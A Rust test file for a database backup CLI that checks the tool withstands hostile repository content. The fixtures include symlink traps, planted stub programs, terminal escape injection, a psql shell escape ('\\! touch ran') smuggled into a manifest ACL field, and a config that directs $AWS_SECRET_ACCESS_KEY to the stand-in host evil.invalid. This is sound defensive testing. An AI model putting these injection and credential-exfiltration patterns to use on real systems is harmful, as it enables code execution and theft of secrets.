//! A folder that came from elsewhere: what is in it runs nothing, and leads nowhere.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use serde_json::json;

use super::{Bench, DOCKER, HOST, facts};

fn unfinished(how: &serde_json::Value) -> String {
    let deed = json!({ "verb": "remove", "deed": { "what": "sessions of this run", "how": how } });
    json!({ "task": "db-restore", "since": "2026-01-01T00:00:00Z", "pending": [deed] }).to_string()
}

#[test]
fn a_journal_that_nobody_signed_is_set_aside_and_named() {
    let bench = Bench::new(HOST);
    let (marker, precious) = (bench.dir.join("ran"), bench.dir.join("precious"));
    fs::create_dir(&precious).unwrap();

    let command =
        json!({ "Command": { "program": "touch", "args": [marker], "env": [], "input": null } });
    let folder = json!({ "Folder": precious });
    for (text, why) in [
        (unfinished(&command), "it is not signed"),
        (unfinished(&folder), "it is not signed"),
        (
            json!({ "run": serde_json::from_str::<serde_json::Value>(&unfinished(&command)).unwrap(), "signature": "00" })
                .to_string(),
            "not signed by you",
        ),
        ("{".into(), "it is not a journal"),
    ] {
        bench.file(".db-tasks/unfinished.json", &text);
        // who looks, or shows a plan, leaves it and says so
        bench.run(&["db-backup", "--dry-run"]).exits(0);
        let status = bench.run(&["db-status"]).exits(0);
        assert!(status.out.contains("`unfinished.json` is not trusted"), "{}", status.out);
        assert!(bench.dir.join(".db-tasks/unfinished.json").exists());
        let said = bench.run(&["db-backup"]).exits(0);
        assert!(said.err.contains("warning: `unfinished.json` was not run") && said.err.contains(why), "{}", said.err);
        let entries =
            fs::read_dir(bench.dir.join(".db-tasks")).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap());
        let aside: Vec<String> = entries.filter(|name| name.contains(".unsafe-")).collect();
        assert_eq!(aside.len(), 1, "{aside:?}");
        assert_eq!(fs::read_to_string(bench.dir.join(".db-tasks").join(&aside[0])).unwrap(), text);
        fs::remove_file(bench.dir.join(".db-tasks").join(&aside[0])).unwrap();
        assert!(!marker.exists() && precious.exists(), "{text}");
    }

    bench.run(&["db-repair"]).exits(0);
}

#[test]
fn a_journal_is_of_one_folder() {
    let (bench, clone) = (Bench::new(HOST), Bench::new(HOST));
    let deed = json!({ "verb": "remove", "deed": { "what": "half", "how": { "File": clone.dir.join("half") } } });
    bench.journal(
        &json!({ "task": "db-restore", "since": "2026-01-01T00:00:00Z", "pending": [deed] }),
    );
    clone.file("half", "x").file(
        ".db-tasks/unfinished.json",
        fs::read(bench.dir.join(".db-tasks/unfinished.json")).unwrap(),
    );
    clone.run(&["db-backup"]).exits(0);

    assert!(clone.dir.join("half").exists());
}

#[test]
fn links_in_our_own_folder_lead_nowhere() {
    let bench = Bench::new(HOST);
    let victim = bench.dir.join("victim");

    for name in ["lock", "audit.jsonl", "unfinished.json.partial", "unfinished.json", ".gitignore"]
    {
        for link in [
            |a: &std::path::Path, b: &std::path::Path| symlink(a, b),
            |a: &_, b: &_| fs::hard_link(a, b),
        ] {
            drop(fs::remove_dir_all(bench.dir.join(".db-tasks")));
            fs::create_dir(bench.dir.join(".db-tasks")).unwrap();
            fs::write(&victim, "precious").unwrap();
            link(&victim, &bench.dir.join(".db-tasks").join(name)).unwrap();
            let said = bench.run(&["db-backup"]);
            assert_eq!(fs::read_to_string(&victim).unwrap(), "precious", "{name}");
            if name == "lock" {
                let said = said.exits(1);
                assert!(
                    said.err.contains(".db-tasks/lock` is not safe to use: it "),
                    "{}",
                    said.err
                );
            } else {
                said.exits(0);
            }
        }
    }

    fs::remove_dir_all(bench.dir.join(".db-tasks")).unwrap();
    fs::create_dir(bench.dir.join("elsewhere")).unwrap();
    symlink("elsewhere", bench.dir.join(".db-tasks")).unwrap();

    let said = bench.run(&["db-backup"]).exits(1);
    assert!(said.err.contains(".db-tasks` is not safe to use: it is a link"), "{}", said.err);
    assert!(bench.names_in("elsewhere").is_empty());
}

#[test]
fn a_folder_that_others_may_write_is_mended() {
    let bench = Bench::new(HOST);
    fs::create_dir(bench.dir.join(".db-tasks")).unwrap();
    fs::set_permissions(bench.dir.join(".db-tasks"), PermissionsExt::from_mode(0o777)).unwrap();
    bench.run(&["db-backup"]).exits(0);
    let mode = fs::metadata(bench.dir.join(".db-tasks")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o755);
}

/// Another who may write to a folder of backups knows the next manifest's name.
#[test]
fn a_manifests_partial_is_written_through_no_link() {
    let bench = Bench::new(HOST);
    let victim = bench.dir.join("victim");
    fs::write(&victim, "precious").unwrap();
    fs::create_dir(bench.dir.join("backups")).unwrap();

    let now = chrono::Utc::now();
    for second in 0..20 {
        let name = (now + chrono::TimeDelta::seconds(second))
            .format("app_%Y%m%d_%H%M%S.manifest.json.partial");
        symlink(&victim, bench.dir.join("backups").join(name.to_string())).unwrap();
    }

    bench.run(&["db-backup"]);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious");

    let made = bench
        .names_in("backups")
        .into_iter()
        .filter(|n| n.ends_with(".manifest.json"))
        .collect::<Vec<_>>();

    assert!(made.iter().all(|name| !bench.dir.join("backups").join(name).is_symlink()), "{made:?}");
}

/// A project with programs of its own that say when they are run, and nobody's word that they may
/// be.
fn with_programs(toml: &str) -> Bench {
    let mut bench = Bench::new(toml);
    bench.env("DB_TASKS_TRUST_REPO", "");
    for program in ["psql", "pg_dump", "docker", "python3", "git"] {
        let file = bench.dir.join("bin").join(program);
        bench.file(
            &format!("bin/{program}"),
            format!("#!/bin/sh\n>'{}'\nexit 1\n", bench.dir.join("ran").display()),
        );
        fs::set_permissions(file, PermissionsExt::from_mode(0o755)).unwrap();
    }

    bench
}

const PLAIN: &str = "[project]\nname = \"shop\"\n[databases.main]\npostgres = { database = \
                     \"app\", user = \"boss\" }\n";

#[test]
fn looking_runs_no_program_of_the_repository() {
    let own = PLAIN.replace("[databases.main]", "[databases.main]\nprograms = \"bin\"");
    let engine = DOCKER.replace("docker = ", "engine = \"./bin/docker\"\ndocker = ");
    let interpreter = DOCKER.replace("docker = ", "engine = \"python3\"\ndocker = ");

    for (toml, dotenv, key) in [
        (own.as_str(), "", "databases.main.programs"),
        (PLAIN, "DB_TASKS_PG_BIN=bin\n", "databases.main.programs"),
        (PLAIN, "DB_TASKS_PG_BIN=/usr/bin\n", "databases.main.programs"),
        (engine.as_str(), "", "containers.pg.engine"),
        (interpreter.as_str(), "", "containers.pg.engine"),
    ] {
        let bench = with_programs(toml);
        bench.file(".env", dotenv);
        for looks in [
            &["db-status"][..],
            &["db-doctor"],
            &["db-backup", "--dry-run"],
            &["db-restore", "--latest", "--dry-run"],
        ] {
            let said = bench.run(looks).exits(3);
            assert!(
                said.err.contains(key) && said.err.contains("--trust-repo"),
                "{looks:?} {}",
                said.err
            );
            assert!(!bench.dir.join("ran").exists(), "{looks:?} {toml}");
        }
        // what is not run is no matter, and a file is listed without any program
        for harmless in ["db-list", "db-config"] {
            bench.run(&[harmless]).exits(0);
        }
        // said once, it holds for this project, and for no other
        bench.run(&["db-list", "--trust-repo"]).exits(0);
        let said = bench.run(&["db-status"]);
        assert!(!said.err.contains("--trust-repo"), "{}", said.err);
    }
}

#[test]
fn path_does_not_lead_looking_into_the_repository() {
    let bin = |bench: &Bench| bench.dir.join("bin").display().to_string();
    let usual = |bench: &Bench| {
        format!("{}:/usr/bin:/bin", bench.dir.parent().unwrap().join("bin").display())
    };

    for part in ["ABSOLUTE", "bin", "", "."] {
        let mut bench = with_programs(DOCKER);
        for program in ["psql", "docker", "git"] {
            fs::copy(bench.dir.join("bin").join(program), bench.dir.join(program)).unwrap();
        }

        let path = format!("{}:{}", part.replace("ABSOLUTE", &bin(&bench)), usual(&bench));
        bench.env("PATH", &path);
        bench.run(&["db-status"]).exits(0);
        bench.run(&["db-doctor"]);
        assert!(!bench.dir.join("ran").exists(), "PATH={path}");
    }

    // `.env` says nothing of it
    let bench = with_programs(PLAIN);
    bench.file(".env", format!("PATH={}\nXDG_CACHE_HOME={}\n", bin(&bench), bin(&bench)));
    bench.run(&["db-status"]);
    assert!(!bench.dir.join("ran").exists());

    // and where there is no other, that is said
    let mut alone = with_programs(DOCKER);
    let path = bin(&alone);
    alone.env("PATH", &path);

    let said = alone.run(&["db-status"]);
    assert!(said.out.contains("docker") && !alone.dir.join("ran").exists(), "{}", said.out);
}

/// Names, comments, sessions, files and the words of other programs: whatever they hold, a terminal
/// is told none of it.
#[test]
fn nothing_from_outside_moves_the_cursor() {
    const EVIL: &str = "a\u{1b}[2J\u{9b}31m\u{7f}\u{202e}b";

    let mut bench =
        Bench::new(&format!("{HOST}[hooks]\nbefore-backup = [\"sh\", \"-c\", \"cat words\"]\n"));
    bench.env("FORCE", "1").file("words", format!("hook {EVIL}\n"));

    let mut said = facts("app");
    said["sessions"] =
        json!([{ "pid": 7, "user": EVIL, "app": EVIL, "host": null, "state": "idle" }]);
    said["databases"][0]["comment"] = json!(EVIL);
    said["tables"] = json!([{ "name": format!("public.\"{EVIL}\""), "estimate": 1, "bytes": 1 }]);
    bench.facts("app", said);

    bench.file(&format!("backups/{EVIL}.sql"), "x");
    let mut all = vec![bench.run(&["db-backup"])];
    bench.learn_counts();
    bench.file("backups/broken.sql", "x");
    bench.file("backups/broken.manifest.json", format!("{{\"tool\": \"db-tasks {EVIL}\"}}"));

    for words in [
        &["db-status"][..],
        &["db-status", "--json"],
        &["db-list"],
        &["db-list", "--json"],
        &["db-doctor"],
        &["db-restore", "--latest", "--dry-run"],
        &["db-restore", "--latest", "--dry-run", "--json"],
        &["db-restore", "--latest", "--yes"],
        &["db-info", EVIL],
        &["db-restore", "--file", EVIL, "--yes"],
    ] {
        all.push(bench.run(words));
    }

    bench.complains("pg_dump", 1, &format!("pg_dump: error: {EVIL}\n"));
    all.push(bench.run(&["db-backup"]));

    let moves = |c: char| (c.is_control() && !matches!(c, '\n' | '\t')) || c == '\u{202e}';
    for said in &all {
        assert!(
            !said.out.contains(moves) && !said.err.contains(moves),
            "{:?} {:?}",
            said.out,
            said.err
        );
    }

    let err = all.iter().map(|said| said.err.as_str()).collect::<String>();
    assert!(err.contains(r"hook a\x1b[2J\x9b31m\x7f\u{202e}b"), "{err}");

    let documents = [&all[2], &all[4], &all[7]]
        .map(|said| serde_json::from_str::<serde_json::Value>(&said.out).unwrap());
    assert!(
        documents[0].to_string().contains("\u{202e}"),
        "a document says what is there: {}",
        documents[0]
    );
}

/// A manifest in a shared folder is edited: it can't be read, or says what no server says.
#[test]
fn an_unreadable_manifest_is_a_broken_backup() {
    let bench = Bench::new(HOST);
    let name = bench.with_backup();
    let path = format!(
        "backups/{}",
        bench.names_in("backups").into_iter().find(|n| n.ends_with(".json")).unwrap()
    );
    let whole = fs::read_to_string(bench.dir.join(&path)).unwrap();
    let grant = json!([{ "grantee": null, "privilege": "CONNECT ON DATABASE x TO PUBLIC;\n\\! touch ran\nGRANT CONNECT" }]);

    let edited = |at: &str, value: serde_json::Value| {
        let mut manifest: serde_json::Value = serde_json::from_str(&whole).unwrap();
        let (parent, key) = at.rsplit_once('/').unwrap();
        manifest.pointer_mut(parent).unwrap()[key] = value;
        manifest.to_string()
    };

    for text in [
        whole[..whole.len() / 2].to_owned(),
        edited("/artifacts/0/holds/postgresql/database/acl", grant),
        edited("/artifacts/0/holds/postgresql/database/connection_limit", json!(-7)),
        edited("/artifacts/0/bytes", json!(-1)),
        edited("/artifacts/0/rows", json!(1e40)),
        edited("/created", json!("yesterday")),
        edited("/artifacts", json!("none")),
    ] {
        bench.file(&path, &text);
        let file = format!("backups/{name}");
        for words in [
            &["db-restore", "--file", &file, "--yes"][..],
            &["db-restore", &file, "--yes"],
            &["db-verify", &file],
        ] {
            let said = bench.run(words).exits(1);
            assert!(said.err.contains("is broken"), "{words:?} {}", said.err);
        }
        let said = bench.run(&["db-restore", "--latest", "--yes"]).exits(1);
        assert!(said.err.contains("is broken, and skipped"), "{}", said.err);
        let list = bench.run(&["db-list"]).exits(0);
        assert!(list.out.contains("broken") && !list.out.contains("foreign"), "{}", list.out);
        assert!(!bench.dir.join("ran").exists());
    }

    // another tool's is no word about the file beside it
    bench.file(&path, r#"{"made": "by hand", "files": 3}"#);
    assert!(bench.run(&["db-list"]).exits(0).out.contains("foreign"));
}

#[test]
fn no_setting_of_the_configuration_has_a_line_break() {
    let mut bench = Bench::new(
        "[project]\nname = \"shop\"\n[databases.main]\nprograms = \"../bin\"\npostgres = { host = \
         \"${H:-h}\", database = \"${D:-app}\", user = \"${U:-boss}\" }\n[backup]\ndir = \
         \"${B:-backups}\"\n",
    );

    for (variable, key) in [
        ("H", "postgres.host"),
        ("D", "postgres.database"),
        ("U", "postgres.user"),
        ("B", "backup.dir"),
    ] {
        for value in ["x\n", "x\u{1b}[2J", "\rx"] {
            bench.env(variable, value);
            let said = bench.run(&["db-status"]).exits(2);
            assert!(
                said.err.contains(&format!("{key}` holds a control character")),
                "{}",
                said.err
            );
        }
        bench.env(variable, "");
    }
}

/// A stranger's file names a variable of whoever looks, and a server of the stranger's.
#[test]
fn looking_sends_nothing_of_ours_to_a_server_of_the_repositorys() {
    const TOML: &str = "[project]\nname = \"shop\"\n[databases.main]\npostgres = { host = \
                        \"evil.invalid\", database = \"app\", user = \"boss\", password-env = \
                        \"AWS_SECRET_ACCESS_KEY\" }\n";

    let mut bench = Bench::new(TOML);
    bench.env("DB_TASKS_TRUST_REPO", "").env("AWS_SECRET_ACCESS_KEY", "aws-s3cret");

    for looks in [
        &["db-status"][..],
        &["db-doctor"],
        &["db-backup", "--dry-run"],
        &["db-protect"],
        &["db-list", "--wait", "1"],
    ] {
        let said = bench.run(looks).exits(3);
        assert!(
            said.err.contains("sends $AWS_SECRET_ACCESS_KEY to evil.invalid"),
            "{looks:?} {}",
            said.err
        );
        assert!(
            said.err.contains("nothing was sent") && said.err.contains("--trust-repo"),
            "{looks:?} {}",
            said.err
        );
    }

    assert!(bench.calls().is_empty());

    for harmless in ["db-list", "db-config"] {
        bench.run(&[harmless]).exits(0);
    }

    // what the repository says itself is no secret of ours
    bench.file(".env", "AWS_SECRET_ACCESS_KEY=aws-s3cret\n");
    assert!(!bench.run(&["db-status"]).err.contains("--trust-repo"));
    bench.file(".env", "");
    bench.run(&["db-status"]).exits(3);
    // said once, it holds for that host, and for no other
    bench.run(&["db-list", "--trust-repo"]).exits(0);

    assert!(!bench.run(&["db-status"]).err.contains("--trust-repo"));
    bench.file("db-tasks.toml", TOML.replace("evil.invalid", "worse.invalid"));

    let said = bench.run(&["db-status"]).exits(3);
    assert!(said.err.contains("to worse.invalid"), "{}", said.err);
    bench.env("DB_TASKS_TRUST_REPO", "1");
    assert!(!bench.run(&["db-status"]).err.contains("--trust-repo"));
}
